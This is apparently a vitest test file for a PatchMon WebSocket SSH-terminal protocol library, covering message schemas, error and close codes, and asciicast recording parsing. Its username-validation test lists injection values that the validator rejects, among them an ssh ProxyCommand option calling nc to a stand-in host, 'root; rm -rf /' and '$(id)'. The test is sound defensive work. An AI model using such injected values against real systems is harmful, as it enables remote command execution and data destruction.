import { describe, expect, it } from "vitest";
import {
  asciicastTime,
  CloseCode,
  encodeAsciicastEvent,
  encodeAsciicastHeader,
  isTerminalErrorCode,
  parseAsciicast,
  parseResizeEventData,
  resizeEventData,
  SshUsername,
  TERMINAL_CLIENT_MAX_PAYLOAD,
  TERMINAL_DEFAULTS,
  TERMINAL_END_REASONS,
  TERMINAL_ERROR_CODES,
  TERMINAL_PATH_PATTERN,
  TerminalClientMessage,
  TerminalClientSchemas,
  TerminalConnect,
  TerminalErrorCatalogue,
  terminalCloseCode,
  TerminalServerMessage,
  terminalShouldReconnect,
  type AsciicastHeader,
  type TerminalServerMessage as TerminalServerMessageType,
} from "@patchmon-ws/protocol";

const CLOSE_CODE_VALUES: number[] = Object.values(CloseCode);

/** PatchMon's front end (SshTerminal.jsx) builds its connect message like this. */
function patchmonConnect(options: { mode: "direct" | "proxy"; auth: "password" | "key"; passphrase?: string }): Record<string, unknown> {
  const message: Record<string, unknown> = {
    type: "connect",
    connection_mode: options.mode,
    username: "root",
    port: 22,
    terminal: "xterm-256color",
    cols: 132,
    rows: 41,
  };
  if (options.mode === "proxy") {
    message.proxy_host = "localhost";
    message.proxy_port = 22;
  }
  if (options.auth === "password") message.password = "correct horse battery staple";
  else {
    message.privateKey = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n";
    if (options.passphrase) message.passphrase = options.passphrase;
  }
  return message;
}

/** The message as it crosses the socket. */
function wire(message: unknown): unknown {
  return JSON.parse(JSON.stringify(message));
}

describe("terminal client messages: PatchMon's front end", () => {
  it("parses a direct connect with a password", () => {
    const parsed = TerminalClientMessage.parse(wire(patchmonConnect({ mode: "direct", auth: "password" })));
    expect(parsed).toMatchObject({
      type: "connect",
      connection_mode: "direct",
      username: "root",
      terminal: "xterm-256color",
      cols: 132,
      rows: 41,
      password: "correct horse battery staple",
    });
  });

  it("parses a proxy connect with a private key and passphrase, accepting port, proxy_host and proxy_port", () => {
    const sent = patchmonConnect({ mode: "proxy", auth: "key", passphrase: "pp" });
    const result = TerminalConnect.safeParse(wire(sent));
    expect(result.success).toBe(true);
    expect(result.data).toMatchObject({ connection_mode: "proxy", privateKey: sent.privateKey, passphrase: "pp" });
    expect(result.data?.password).toBeUndefined();
  });

  it("parses a key without a passphrase", () => {
    expect(TerminalConnect.safeParse(wire(patchmonConnect({ mode: "direct", auth: "key" }))).success).toBe(true);
  });

  it("parses input, resize and disconnect", () => {
    expect(TerminalClientMessage.parse({ type: "input", data: "ls -la\r" })).toEqual({ type: "input", data: "ls -la\r" });
    expect(TerminalClientMessage.parse({ type: "input", data: "" })).toEqual({ type: "input", data: "" });
    expect(TerminalClientMessage.parse({ type: "resize", cols: 80, rows: 24 })).toEqual({ type: "resize", cols: 80, rows: 24 });
    expect(TerminalClientMessage.parse({ type: "disconnect" })).toEqual({ type: "disconnect" });
    expect(TerminalClientMessage.parse({ type: "auth_response", responses: ["123456"] })).toEqual({ type: "auth_response", responses: ["123456"] });
  });

  it("applies the defaults to a bare connect", () => {
    const parsed = TerminalConnect.parse({ type: "connect" });
    expect(parsed).toEqual({ type: "connect", connection_mode: "direct", terminal: "xterm-256color", cols: 80, rows: 24 });
    expect(parsed.connection_mode).toBe(TERMINAL_DEFAULTS.connectionMode);
    expect(parsed.username).toBeUndefined();
  });
});

describe("terminal client messages: refusals", () => {
  it("refuses login names a shell or ssh would interpret", () => {
    for (const username of [
      "-oProxyCommand=nc evil.example 22",
      "-l",
      "root; rm -rf /",
      "root && id",
      "$(id)",
      "`id`",
      "a b",
      "root\n",
      "root|tee",
      "root>x",
      "root'",
      'root"',
      "ro*t",
      "x".repeat(65),
      "@root",
    ]) {
      expect(SshUsername.safeParse(username).success, JSON.stringify(username)).toBe(false);
      expect(TerminalConnect.safeParse({ type: "connect", username }).success, JSON.stringify(username)).toBe(false);
    }
  });

  it("reads an empty login name (PatchMon's emptied field) as none, so the default applies", () => {
    expect(SshUsername.safeParse("").success).toBe(false);
    const parsed = TerminalConnect.parse({ type: "connect", username: "" });
    expect(parsed.username).toBeUndefined();
  });

  it("accepts ordinary login names", () => {
    for (const username of ["root", "ubuntu", "ec2-user", "first.last", "svc_patch", "_apt", "alice@EXAMPLE.COM", "a", "x".repeat(64), "0day"]) {
      expect(SshUsername.safeParse(username).success, username).toBe(true);
    }
  });

  it("refuses columns and rows out of 1-1000 or not integers, in connect and resize", () => {
    for (const bad of [0, -1, 1001, 80.5, "80", null, Number.NaN]) {
      expect(TerminalConnect.safeParse({ type: "connect", cols: bad }).success, `cols ${String(bad)}`).toBe(false);
      expect(TerminalConnect.safeParse({ type: "connect", rows: bad }).success, `rows ${String(bad)}`).toBe(false);
      expect(TerminalClientMessage.safeParse({ type: "resize", cols: bad, rows: 24 }).success, `resize cols ${String(bad)}`).toBe(false);
      expect(TerminalClientMessage.safeParse({ type: "resize", cols: 80, rows: bad }).success, `resize rows ${String(bad)}`).toBe(false);
    }
    for (const ok of [1, 1000]) expect(TerminalClientMessage.safeParse({ type: "resize", cols: ok, rows: ok }).success).toBe(true);
    expect(TerminalClientMessage.safeParse({ type: "resize", cols: 80 }).success).toBe(false);
  });

  it("refuses unknown connection modes, odd terminal names and oversized credentials", () => {
    expect(TerminalConnect.safeParse({ type: "connect", connection_mode: "ssh" }).success).toBe(false);
    expect(TerminalConnect.safeParse({ type: "connect", terminal: "xterm;id" }).success).toBe(false);
    expect(TerminalConnect.safeParse({ type: "connect", terminal: "" }).success).toBe(false);
    expect(TerminalConnect.safeParse({ type: "connect", password: "p".repeat(1025) }).success).toBe(false);
    expect(TerminalConnect.safeParse({ type: "connect", password: "p".repeat(1024) }).success).toBe(true);
    expect(TerminalConnect.safeParse({ type: "connect", privateKey: "k".repeat(16_385) }).success).toBe(false);
    expect(TerminalConnect.safeParse({ type: "connect", passphrase: 42 }).success).toBe(false);
  });

  it("refuses unknown types and malformed frames", () => {
    for (const frame of [
      { type: "exec", command: "id" },
      { type: "Connect" },
      { type: "data", data: "x" },
      { type: "closed" },
      { data: "x" },
      {},
      null,
      "connect",
      ["connect"],
      { type: "input" },
      { type: "input", data: 42 },
      { type: "input", data: "x".repeat(TERMINAL_CLIENT_MAX_PAYLOAD + 1) },
      { type: "auth_response", responses: Array.from({ length: 17 }, () => "") },
      { type: "auth_response", responses: "123456" },
    ]) {
      expect(TerminalClientMessage.safeParse(frame).success, JSON.stringify(frame)?.slice(0, 80)).toBe(false);
    }
  });

  it("declares a schema for every client type", () => {
    expect(Object.keys(TerminalClientSchemas).sort()).toEqual(["auth_response", "connect", "disconnect", "input", "resize"]);
  });
});

describe("terminal server messages", () => {
  const samples: TerminalServerMessageType[] = [
    { type: "connected" },
    {
      type: "connected",
      session_id: "3f2c9a0e1d2b",
      connection_mode: "proxy",
      protocol_version: 1,
      host_key: { algorithm: "ssh-ed25519", fingerprint: "SHA256:T+KrCxL6deR5Px85bkqYb8IAFX2/LYMkmGctdCRUbiU", status: "pinned" },
      expires_at: 1_700_000_000_000,
      idle_timeout_seconds: 900,
    },
    { type: "connected", host_key: null },
    { type: "data", data: "\x1b[1;32mbob@web1\x1b[0m:~$ é\r\n" },
    { type: "error", message: "The SSH server refused the credentials." },
    {
      type: "error",
      message: "host key changed",
      code: "HOST_KEY_MISMATCH",
      expected_fingerprint: "SHA256:aaa",
      presented_fingerprint: "SHA256:bbb",
    },
    { type: "closed" },
    { type: "closed", code: 4002, reason: "IDLE_TIMEOUT" },
    { type: "warning", kind: "idle_timeout", seconds: 60, message: "Closing in 60 s unless you type." },
    { type: "warning", kind: "max_duration", seconds: 300, message: "The session ends in 5 minutes." },
    { type: "auth_prompt", name: "", instructions: "", prompts: [{ prompt: "Verification code: ", echo: false }] },
  ];

  it("round-trip through JSON", () => {
    for (const message of samples) expect(TerminalServerMessage.parse(wire(message)), message.type).toEqual(message);
  });

  it("read an unknown error code (from a newer server) as INTERNAL, keeping the message", () => {
    expect(TerminalServerMessage.parse({ type: "error", message: "new thing", code: "QUANTUM_FLUX" })).toEqual({
      type: "error",
      message: "new thing",
      code: "INTERNAL",
    });
    expect(TerminalServerMessage.parse({ type: "error", message: "x", code: "SSH_AUTH_FAILED" })).toMatchObject({ code: "SSH_AUTH_FAILED" });
    expect(TerminalServerMessage.parse({ type: "error", message: "x", code: "__proto__" })).toMatchObject({ code: "INTERNAL" });
  });

  it("refuse malformed server messages", () => {
    for (const frame of [
      { type: "data" },
      { type: "error" },
      { type: "warning", kind: "soon", seconds: 1, message: "" },
      { type: "connected", host_key: { algorithm: "x", fingerprint: "y", status: "trusted" } },
      { type: "connected", connection_mode: "telnet" },
      { type: "hello" },
    ]) {
      expect(TerminalServerMessage.safeParse(frame).success, JSON.stringify(frame)).toBe(false);
    }
  });
});

describe("terminal errors and close codes", () => {
  it("knows exactly the catalogue's codes", () => {
    expect(TERMINAL_ERROR_CODES).toEqual(Object.keys(TerminalErrorCatalogue));
    for (const code of TERMINAL_ERROR_CODES) expect(isTerminalErrorCode(code)).toBe(true);
    for (const other of ["", "internal", "toString", "constructor", "hasOwnProperty", 42, null, undefined]) expect(isTerminalErrorCode(other)).toBe(false);
  });

  it("maps every catalogue entry with a close to a code defined in CloseCode", () => {
    for (const code of TERMINAL_ERROR_CODES) {
      const close = TerminalErrorCatalogue[code].close;
      if (close === null) continue;
      expect(CLOSE_CODE_VALUES, code).toContain(close);
      expect(terminalCloseCode(code), code).toBe(close);
      expect(close, code).not.toBe(CloseCode.NORMAL);
    }
  });

  it("closes with a defined, non-normal code even for errors that do not end a session", () => {
    for (const code of TERMINAL_ERROR_CODES) {
      const close = terminalCloseCode(code);
      expect(CLOSE_CODE_VALUES, code).toContain(close);
      expect(close, code).not.toBe(CloseCode.NORMAL);
    }
  });

  it("closes a normal end with 1000", () => {
    for (const reason of TERMINAL_END_REASONS) expect(terminalCloseCode(reason)).toBe(1000);
  });

  it("uses the documented close for each kind of end", () => {
    const expected: Record<string, number> = {
      NO_SSH_TARGET: 4006,
      HOST_UNREACHABLE: 4006,
      AGENT_OFFLINE: 4006,
      AGENT_ERROR: 4006,
      SSH_ERROR: 4006,
      RELAY_LOST: 4006,
      RELAY_STALLED: 4006,
      SSH_AUTH_FAILED: 4008,
      HOST_KEY_MISMATCH: 4008,
      PROXY_DISABLED: 4008,
      SESSION_LIMIT: 4004,
      IDLE_TIMEOUT: 4002,
      SESSION_EXPIRED: 4007,
      CREDENTIALS_REVOKED: 4001,
      HOST_DELETED: 4005,
      DEPENDENCY_UNAVAILABLE: 1013,
      SHUTTING_DOWN: 1012,
      TOO_MANY_INVALID_MESSAGES: 1008,
      INTERNAL: 1011,
    };
    for (const [code, close] of Object.entries(expected)) {
      expect(isTerminalErrorCode(code), code).toBe(true);
      expect(terminalCloseCode(code as keyof typeof TerminalErrorCatalogue), code).toBe(close);
    }
    expect(TerminalErrorCatalogue.INVALID_MESSAGE.close).toBeNull();
    expect(TerminalErrorCatalogue.ALREADY_CONNECTED.close).toBeNull();
  });

  it("reconnects only after a network loss or a replica going away", () => {
    for (const code of [1006, 1001, 1012, 1013]) expect(terminalShouldReconnect(code), String(code)).toBe(true);
    for (const code of [1000, 1008, 1009, 1011, 4000, 4001, 4002, 4003, 4004, 4005, 4006, 4007, 4008, 4999, 0]) {
      expect(terminalShouldReconnect(code), String(code)).toBe(false);
    }
  });

  it("tells a client to reconnect after exactly the restart and overload ends", () => {
    const reconnecting = TERMINAL_ERROR_CODES.filter((code) => terminalShouldReconnect(terminalCloseCode(code))).sort();
    expect(reconnecting).toEqual(["DEPENDENCY_UNAVAILABLE", "SHUTTING_DOWN"]);
    for (const reason of TERMINAL_END_REASONS) expect(terminalShouldReconnect(terminalCloseCode(reason))).toBe(false);
  });

  it("matches the terminal path", () => {
    expect(TERMINAL_PATH_PATTERN.exec("/api/v1/ssh-terminal/h1")?.slice(1)).toEqual(["v1", "h1"]);
    expect(TERMINAL_PATH_PATTERN.test("/api/v1/ssh-terminal/h1/")).toBe(true);
    expect(TERMINAL_PATH_PATTERN.test("/api/v1/ssh-terminal/h1/x")).toBe(false);
    expect(TERMINAL_PATH_PATTERN.test("/api/v1/ssh-terminal/")).toBe(false);
  });
});

describe("asciicast v2", () => {
  const header: AsciicastHeader = { version: 2, width: 132, height: 41, timestamp: 1_700_000_000, title: "bob@web1", env: { TERM: "xterm-256color" } };

  it("round-trips a recording through encode and parse", () => {
    const text =
      encodeAsciicastHeader(header) +
      encodeAsciicastEvent(0, "m", "connected") +
      encodeAsciicastEvent(12.5, "i", "ls\r") +
      encodeAsciicastEvent(40, "o", 'ls\r\n"quoted" \\ \x1b[0m é 日本\n') +
      encodeAsciicastEvent(1500, "r", resizeEventData(100, 30)) +
      encodeAsciicastEvent(1500, "m", "closed: disconnected");
    expect(text.split("\n")).toHaveLength(7); // six lines and the final newline: data newlines are escaped
    const parsed = parseAsciicast(text);
    expect(parsed.header).toEqual(header);
    expect(parsed.events).toEqual([
      [0, "m", "connected"],
      [0.0125, "i", "ls\r"],
      [0.04, "o", 'ls\r\n"quoted" \\ \x1b[0m é 日本\n'],
      [1.5, "r", "100x30"],
      [1.5, "m", "closed: disconnected"],
    ]);
  });

  it("writes times in seconds with microsecond precision, never negative", () => {
    expect(asciicastTime(0)).toBe(0);
    expect(asciicastTime(1)).toBe(0.001);
    expect(asciicastTime(1234.5678)).toBe(1.234568);
    expect(asciicastTime(3_600_000)).toBe(3600);
    expect(asciicastTime(-5)).toBe(0);
    expect(encodeAsciicastEvent(250, "o", "x")).toBe('[0.25,"o","x"]\n');
  });

  it("keeps unknown header fields", () => {
    const parsed = parseAsciicast(`${JSON.stringify({ ...header, theme: { fg: "#fff" }, idle_time_limit: 2 })}\n`);
    expect(parsed.header).toMatchObject({ theme: { fg: "#fff" }, idle_time_limit: 2 });
    expect(parsed.events).toEqual([]);
  });

  it("allows trailing blank lines but no blank line in the middle", () => {
    const head = encodeAsciicastHeader(header);
    const event = encodeAsciicastEvent(1, "o", "x");
    expect(parseAsciicast(`${head}${event}\n\n\n`).events).toHaveLength(1);
    expect(parseAsciicast(`${head}${event}`.slice(0, -1)).events).toHaveLength(1); // no final newline
    expect(() => parseAsciicast(`${head}\n${event}`)).toThrow(/line 2/);
  });

  it("refuses an empty recording and a bad header", () => {
    expect(() => parseAsciicast("")).toThrow(/empty/);
    expect(() => parseAsciicast("\n\n")).toThrow(/empty/);
    for (const bad of [
      "not json",
      JSON.stringify({ ...header, version: 1 }),
      JSON.stringify({ ...header, width: 0 }),
      JSON.stringify({ ...header, height: 2.5 }),
      JSON.stringify({ version: 2, width: 80 }),
      JSON.stringify({ ...header, env: { TERM: 1 } }),
      JSON.stringify([0, "o", "x"]),
    ]) {
      expect(() => parseAsciicast(`${bad}\n`), bad).toThrow(/line 1/);
    }
  });

  it("refuses a bad event, naming its line", () => {
    const head = encodeAsciicastHeader(header) + encodeAsciicastEvent(0, "o", "ok");
    for (const bad of [
      "not json",
      '[0.1,"x","data"]',
      '[-0.1,"o","data"]',
      '["0.1","o","data"]',
      '[0.1,"o"]',
      '[0.1,"o","data","extra"]',
      '[0.1,"o",42]',
      '{"time":0.1}',
      "null",
    ]) {
      expect(() => parseAsciicast(`${head}${bad}\n`), bad).toThrow(/line 3/);
    }
  });

  it("refuses time going backwards, and allows equal times", () => {
    const head = encodeAsciicastHeader(header);
    expect(() => parseAsciicast(head + encodeAsciicastEvent(2000, "o", "a") + encodeAsciicastEvent(1999, "o", "b"))).toThrow(/line 3.*backwards/);
    expect(parseAsciicast(head + encodeAsciicastEvent(2000, "o", "a") + encodeAsciicastEvent(2000, "i", "b")).events).toHaveLength(2);
  });

  it("encodes and reads resize data", () => {
    expect(resizeEventData(120, 40)).toBe("120x40");
    expect(parseResizeEventData("120x40")).toEqual({ cols: 120, rows: 40 });
    expect(parseResizeEventData(resizeEventData(1, 1000))).toEqual({ cols: 1, rows: 1000 });
    for (const bad of ["", "120X40", "120x", "x40", "-1x5", "1.5x2", " 120x40", "120x40 ", "120*40", "120x40x2"]) {
      expect(parseResizeEventData(bad), JSON.stringify(bad)).toBeUndefined();
    }
  });
});
